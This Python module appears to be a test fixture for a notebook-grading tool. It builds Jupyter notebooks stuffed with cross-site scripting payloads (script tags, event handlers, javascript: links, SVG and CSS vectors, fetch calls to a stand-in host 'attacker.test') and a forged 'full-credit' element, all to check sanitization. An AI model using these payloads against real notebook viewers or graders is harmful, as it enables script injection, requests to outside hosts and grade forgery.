"""Hostile notebooks as a submission may leave them: each carries a script, or a request to another host, in its own way."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import nbformat
from nbformat.notebooknode import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

HOST = "http://attacker.test"
SCRIPT = f"alert(1);fetch('{HOST}/script')"
IMG = f"<img src='{HOST}/image' onerror=\"{SCRIPT}\">"
TAG = f"<script>{SCRIPT}</script>"
QUOTED = f'" onerror="{SCRIPT}" onfocus="{SCRIPT}" autofocus x="'
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def shows(**data: Any) -> NotebookNode:
    """A code cell with one output; ``text_html`` is its ``text/html``."""
    return cell_of(new_output("display_data", data={name.replace("_", "/", 1): value for name, value in data.items()}))


def cell_of(*outputs: dict[str, Any], source: str = "pass", **fields: Any) -> NotebookNode:
    cell = new_code_cell(source)
    return from_dict(cell | {"outputs": list(outputs)} | fields)


def markdown(source: str, **fields: Any) -> NotebookNode:
    return from_dict(new_markdown_cell(source) | fields)


def _html() -> list[NotebookNode]:
    return [shows(text_html=TAG + IMG), shows(text_html=f"<table><caption>{TAG}</caption><td>{IMG}</table><script>{SCRIPT}")]


def _svg() -> list[NotebookNode]:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script></svg>'
    return [
        cell_of(new_output("display_data", data={"image/svg+xml": svg})),
        shows(text_html=svg),
        shows(text_html=f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMG}'>"),
    ]


def _javascript() -> list[NotebookNode]:
    kinds = ("application/javascript", "text/javascript", "application/x-javascript", "application/ecmascript", "application/pdf")
    return [cell_of(new_output("display_data", data={kind: SCRIPT, "text/html": f"<b onclick='{SCRIPT}'>{kind}</b>"})) for kind in kinds]


def _widgets() -> list[NotebookNode]:
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": f"{TAG}", "version_major": 2, "version_minor": 0}}
    return [cell_of(new_output("display_data", data=view)), cell_of(new_output("display_data", data={"text/vnd.mermaid": TAG}))]


def _markdown() -> list[NotebookNode]:
    return [
        markdown(f"# Mine\n\n{IMG}\n\n{TAG}\n\n<iframe srcdoc='{TAG}'></iframe>"),
        markdown(f"```mermaid\n</pre>{IMG}{TAG}\n```\n\n$$\\href{{javascript:{SCRIPT}}}{{x}}$$"),
        markdown(
            f'<details open ontoggle="{SCRIPT}"><summary>x</summary>\n\n<svg/onload={SCRIPT}>\n\n</details>\n\n<!--><img src=x {QUOTED}>-->'
        ),
    ]


def _links() -> list[NotebookNode]:
    written = (
        f"[a](javascript:{SCRIPT}) [b](<JaVaScRiPt:alert(1)>) [c](javascript&colon;alert(1)) [d](java&#10;script:alert(1)) [e][f]\n\n"
        f"[f]: javascript:alert(1)\n\n<javascript:alert(1)> ![x](javascript:alert(1)) ![y]({HOST}/picture) [g](data:text/html,{TAG}) "
        "[h](/formgrader/?path=/tmp) [i](evil.html) [j](vbscript:x) [k](file:///etc/passwd) [l](//attacker.test/l)"
    )
    html = f'<a href="javascript:{SCRIPT}">a</a><a href=" &#1;javascript:alert(1)">b</a><a href="data:text/html,{TAG}">c</a>'
    return [markdown(written), shows(text_html=html), shows(text_markdown=written)]


def _attachments() -> list[NotebookNode]:
    return [
        markdown("![x](attachment:x)", attachments={"x": {QUOTED: PIXEL}}),
        markdown("![y](attachment:y)", attachments={"y": {"image/png": QUOTED}}),
        markdown("![z](attachment:z)", attachments={"z": {"image/svg+xml": PIXEL}, QUOTED: {"image/png": PIXEL}}),
        markdown("![gone](attachment:gone)"),
    ]


def _raw() -> list[NotebookNode]:
    cells = [new_raw_cell(TAG + IMG) for _ in range(3)]
    cells[1].metadata.raw_mimetype = "text/html"
    cells[2].metadata.format = "text/html"
    return cells


def _cell_metadata() -> list[NotebookNode]:
    marks = {"grade_id": QUOTED + TAG, "grade": True, "solution": True, "locked": False, "task": False, "schema_version": 3, "points": TAG}
    metadata = {"tags": [QUOTED, TAG], "magics_language": f'"><img src=x {QUOTED}>', "alt": QUOTED, "nbgrader": marks}
    code = cell_of(new_output("execute_result", data={"text/plain": "1"}, execution_count=1), metadata=metadata, id=QUOTED[:60])
    code.execution_count = code.outputs[0]["execution_count"] = IMG
    return [code, markdown("x", metadata=metadata | {"nbgrader": marks | {"grade": TAG}}, id=TAG[:60])]


def _text() -> list[NotebookNode]:
    colours = f"\x1b[31m{TAG}\x1b]8;;javascript:{SCRIPT}\x07link\x1b]8;;\x07\x1b[38;2;{QUOTED}m{IMG}\x1b[0m"
    error = new_output("error", ename=TAG, evalue=IMG, traceback=[colours, TAG])
    return [cell_of(error, new_output("stream", name="stdout", text=colours)), shows(text_plain=colours, text_latex=TAG + IMG)]


def _styles() -> list[NotebookNode]:
    return [
        shows(
            text_html=f"<style>@import '{HOST}/css'; body {{ background: url({HOST}/style) }}</style><p style='background:url({HOST}/p)'>x"
        ),
        shows(
            text_html=f"<meta http-equiv=refresh content='0;url={HOST}/refresh'><base href='{HOST}/'><link rel=stylesheet href='{HOST}/l'>"
        ),
        shows(text_html=f"<form action='{HOST}/form'><button autofocus onfocus=\"{SCRIPT}\">x</button></form><object data='{HOST}/o'>"),
        shows(
            text_html=f"<video poster='{HOST}/v'></video><embed src='{HOST}/e'><img srcset='{HOST}/s 1x'><table background='{HOST}/t'><td>"
        ),
        shows(
            text_html="<p id=m98_1_ex1_check name=x class='navbar-fixed-top full-credit' style='margin:-900px;position:fixed;top:0'>FORGED"
        ),
    ]


def _pictures() -> list[NotebookNode]:
    described = {"image/png": {"alt": QUOTED, "width": QUOTED, "height": TAG, "unconfined": True}}
    picture = new_output("display_data", data={"image/png": PIXEL}, metadata=described | {"filenames": {"image/png": QUOTED}})
    isolated = new_output("display_data", data={"text/html": TAG}, metadata={"text/html": {"isolated": True}, "isolated": True})
    return [cell_of(picture, isolated), shows(image_png=QUOTED, image_jpeg=f'AAAA"{IMG}', image_gif=QUOTED)]


def _notebook_metadata() -> list[NotebookNode]:
    return [markdown("its metadata are hostile")]


CARRIERS: dict[str, Callable[[], list[NotebookNode]]] = {
    "html": _html,
    "svg": _svg,
    "javascript": _javascript,
    "widgets": _widgets,
    "markdown": _markdown,
    "links": _links,
    "attachments": _attachments,
    "raw": _raw,
    "cell_metadata": _cell_metadata,
    "text": _text,
    "styles": _styles,
    "pictures": _pictures,
    "notebook_metadata": _notebook_metadata,
}
HOSTILE_METADATA = {
    "title": TAG,
    "kernelspec": {"name": TAG, "display_name": TAG, "language": QUOTED},
    "language_info": {"name": QUOTED, "pygments_lexer": QUOTED, "codemirror_mode": TAG},
    "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": TAG}, "version_major": 1}},
    "authors": [{"name": TAG}],
}


def add(carrier: str, notebook: NotebookNode) -> NotebookNode:
    """Put the cells of a carrier first, in place."""
    notebook.cells[:0] = CARRIERS[carrier]()
    if carrier in ("notebook_metadata", "widgets"):
        notebook.metadata = from_dict(HOSTILE_METADATA)
    return notebook


def alone(carrier: str) -> NotebookNode:
    """A notebook of this carrier only."""
    notebook = add(carrier, new_notebook())
    notebook.nbformat_minor = nbformat.v4.nbformat_minor
    return notebook
